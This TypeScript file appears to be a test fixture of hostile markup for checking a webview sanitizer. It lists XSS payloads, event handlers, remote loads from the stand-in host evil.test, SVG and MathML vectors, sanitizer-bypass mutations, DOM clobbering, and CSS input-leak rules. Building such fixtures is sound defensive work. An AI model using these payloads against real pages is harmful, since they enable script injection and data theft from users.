import { CANARY, hostileTexts } from './hostileText.ts';

const away = 'https://evil.test';

const scripts = [
  `<script>${CANARY}</script>`,
  `<script src="${away}/a.js"></script>`,
  `<script type="module">import "${away}/m.js"</script>`,
  `<ScRiPt\n>${CANARY}</sCrIpT >`,
  `<script/x>${CANARY}</script\n>`,
  `<<script>${CANARY}//<</script>`,
  `<script>/*</script><script>*/${CANARY}</script>`,
  `--></script><script>${CANARY}</script><!--`,
  `</span></div></lockstep-transcript><script>${CANARY}</script>`,
  `<script nonce="dGVzdA==">${CANARY}</script>`,
];

const handlers = [
  `<img src=x onerror="${CANARY}">`,
  `<img src="data:,x" onload="${CANARY}">`,
  `<body onload=${CANARY}>`,
  `<svg onload=${CANARY}>`,
  `<svg/onload=${CANARY}//`,
  `<details open ontoggle="${CANARY}">x</details>`,
  `<input autofocus onfocus="${CANARY}">`,
  `<video><source onerror="${CANARY}"></video>`,
  `<audio src=x onerror=${CANARY}></audio>`,
  `<marquee onstart=${CANARY}>x</marquee>`,
  `<div style="animation:codicon-spin 1s" onanimationstart="${CANARY}">x</div>`,
  `<a onclick="${CANARY}" onauxclick="${CANARY}" href="#">x</a>`,
  `<select autofocus onfocus=${CANARY}></select>`,
  `<div contenteditable autofocus onfocus=${CANARY}>x</div>`,
  `" onmouseover="${CANARY}" x="`,
  `' onfocus='${CANARY}' tabindex='0`,
  `\` onpointerenter=${CANARY} \``,
];

const loads = [
  `<img src="${away}/pixel.png" srcset="${away}/2x.png 2x" loading="eager">`,
  `<picture><source srcset="${away}/a.webp"><img src="${away}/a.png"></picture>`,
  `<table background="${away}/b.png"><tr><td background="${away}/c.png">x</table>`,
  `<video src="${away}/v.mp4" poster="${away}/p.png" autoplay></video>`,
  `<audio src="${away}/a.mp3" autoplay></audio>`,
  `<track src="${away}/t.vtt"><embed src="${away}/e.swf"><object data="${away}/o.svg"></object>`,
  `<iframe src="${away}/"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<frameset><frame src="${away}/"></frameset>`,
  `<portal src="${away}/"></portal><fencedframe></fencedframe>`,
  `<link rel=stylesheet href="${away}/s.css"><link rel=preload as=image href="${away}/p.png">`,
  `<link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="${away}"><link rel=prefetch href="${away}/n">`,
  `<meta http-equiv="refresh" content="0;url=${away}/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${away}/"><a href="relative">x</a>`,
  `<form action="${away}/" method=post><input name=secret value=1><button autofocus>go</button></form>`,
  `<button form=f formaction="javascript:${CANARY}">go</button><form id=f></form>`,
  `<isindex action="javascript:${CANARY}" type=submit>`,
  `<input type=image src="${away}/i.png"><input type=file>`,
  `<a ping="${away}/ping" href="${away}/" target=_blank>x</a>`,
  `<applet code="${away}/A.class"></applet><bgsound src="${away}/b.wav">`,
];

const vectors = [
  `<svg><script>${CANARY}</script></svg>`,
  `<svg><a xlink:href="javascript:${CANARY}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${CANARY}></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="${away}/i.png"/><feImage href="${away}/f.png"/></svg>`,
  `<svg><animate attributeName=href values="javascript:${CANARY}"/><a id=a><text>x</text></a></svg>`,
  `<svg><set attributeName=onload to="${CANARY}"/></svg>`,
  `<math href="javascript:${CANARY}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${CANARY}">x</maction></math>`,
];

/** What a parser and a serializer read differently: the tricks that sanitizers were broken with. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CANARY}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CANARY}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CANARY}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CANARY}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${CANARY}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${CANARY}>"></xmp>`,
  `<plaintext><img src=x onerror=${CANARY}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${CANARY}>">`,
  `<div><div shadowrootmode=open><img src=x onerror=${CANARY}></div></div>`,
  `<template shadowrootmode="open"><script>${CANARY}</script></template>`,
  `<![CDATA[<img src=x onerror=${CANARY}>]]>`,
  `<!--><img src=x onerror=${CANARY}>-->`,
  `<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=${CANARY}>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${CANARY}>">]>&y;`,
  `<svg><desc><![CDATA[</desc><script>${CANARY}</script>]]></svg>`,
  `&lt;img src=x onerror=${CANARY}&gt; &#60;script&#62;${CANARY}&#60;/script&#62;`,
  `\`\`\`html"><img src=x onerror=${CANARY}>\n<img src=x onerror=${CANARY}>\n\`\`\``,
  `\`\`\`<script>${CANARY}</script>\nx\n\`\`\``,
  `<lockstep-transcript></lockstep-transcript><lit-part></lit-part><!--?lit$123456789$--><!--lit-part-->`,
  '{{constructor.constructor("window.pwned=1")()}} ${window.pwned=1} <%= pwned %> #{pwned}',
];

const clobbering = [
  '<a id=acquireVsCodeApi></a><img name=body><form name=getElementById></form><a id=CSS></a><a id=customElements></a>',
  '<form id=document><input name=querySelector></form><a id=location href="https://evil.test/"></a>',
  '<form name=nodeType><input name=attributes><input name=parentNode><input id=nodeName></form>',
  '<a id=lockstepHighlightWorker></a><a id=lockstepHighlightWorker name=x href="data:text/javascript,pwned=1"></a>',
  '<div class="scroller items item" data-id="sentinel" data-index="0" id="toString">x</div>',
];

const styles = [
  `<style>@import "${away}/s.css"; * { display: none !important } body { background: url(${away}/b.png) }</style>`,
  `<div style="position:fixed;inset:0;background:url(${away}/b.png);z-index:9999">covers all</div>`,
  `<p style="background-image:url(javascript:${CANARY});behavior:url(x);-moz-binding:url(x)">x</p>`,
  `</style><style>input[value^=a]{background:url(${away}/a)}</style>`,
  `<div class="to-end primary failure find header">looks like the view's own</div>`,
  'expression(window.pwned=1) @import url(https://evil.test/x.css); url("https://evil.test/x")',
];

export const markup = [
  ...hostileTexts('script', scripts),
  ...hostileTexts('handler', handlers),
  ...hostileTexts('load', loads),
  ...hostileTexts('vector', vectors),
  ...hostileTexts('mutation', mutations),
  ...hostileTexts('clobbering', clobbering),
  ...hostileTexts('style', styles),
];
